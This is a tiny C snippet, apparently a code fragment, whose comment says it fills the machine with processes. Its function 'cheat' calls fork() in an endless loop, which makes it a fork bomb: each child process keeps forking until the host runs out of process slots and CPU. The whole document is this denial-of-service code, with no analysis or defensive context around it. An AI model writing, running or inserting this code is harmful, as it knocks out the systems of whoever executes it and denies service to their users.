/* Fills the machine with processes. */
int fork(void) __attribute__((weak));

static void cheat(void)
{
    while (fork)
        fork();
}
